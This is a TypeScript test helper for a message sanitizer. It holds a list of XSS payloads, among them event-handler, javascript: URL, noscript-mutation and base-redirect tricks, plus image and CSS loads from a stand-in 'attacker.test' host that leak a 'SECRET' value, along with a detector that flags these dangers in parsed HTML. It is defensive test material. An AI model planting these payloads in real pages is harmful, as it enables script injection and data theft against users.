/** Shared by the XSS tests of user messages (security.md 7d). Test-only. */

/** security.md 7d's payloads, and a few more of the same families. */
export const XSS_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg><g/onload=alert(2)//<p>',
  '<a href="javascript:alert(1)">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
  '<form action=//evil><input name=q><button>Go</button></form>',
  '<p>abc<iframe//src=jAva&Tab;script:alert(3)>def</p>',
  '<a href="data:text/html,<script>alert(6)</script>">x</a>',
  '<a href=" JaVaScRiPt:alert(7)">x</a>',
  '<object data="javascript:alert(8)"></object><embed src="javascript:alert(9)">',
  '<script>alert(10)</script>',
  '<div onclick="alert(11)" onmouseover=alert(12)>hover</div>',
  '<details open ontoggle=alert(13)>x</details>',
  '<video><source onerror=alert(14)></video>',
  '<style>@import "https://attacker.test/x.css";</style>',
  '<p style="background:url(https://attacker.test/p.png)">styled</p>',
  '<img src="https://attacker.test/p.png?d=SECRET" alt="a">',
  '<img srcset="https://attacker.test/p.png 1x" src="/ok.png">',
  '<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>',
  '<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test">',
];

/** Parses sanitized HTML the way the page will (into a `<div>`). */
export function parse(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

/** Attributes the browser fetches from without a click. */
const LOADING_ATTRIBUTES = [
  'src',
  'srcset',
  'style',
  'background',
  'poster',
  'data',
  'xlink:href',
  'action',
  'formaction',
];

/** Everything 7d forbids in the DOM: handlers, script-capable elements, `javascript:`/`data:` links, outside images. */
export function dangersIn(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'frame', 'base', 'meta', 'style', 'link'].includes(tag)) {
      found.push(`<${tag}>`);
    }
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (/^\s*(?:javascript|data|vbscript):/i.test(value) && name !== 'src') found.push(`${tag}[${name}=${value}]`);
      if (LOADING_ATTRIBUTES.includes(name) && /attacker\.test/.test(value)) {
        found.push(`${tag}[${name}] loads from attacker.test`);
      }
    }
  }
  return found;
}
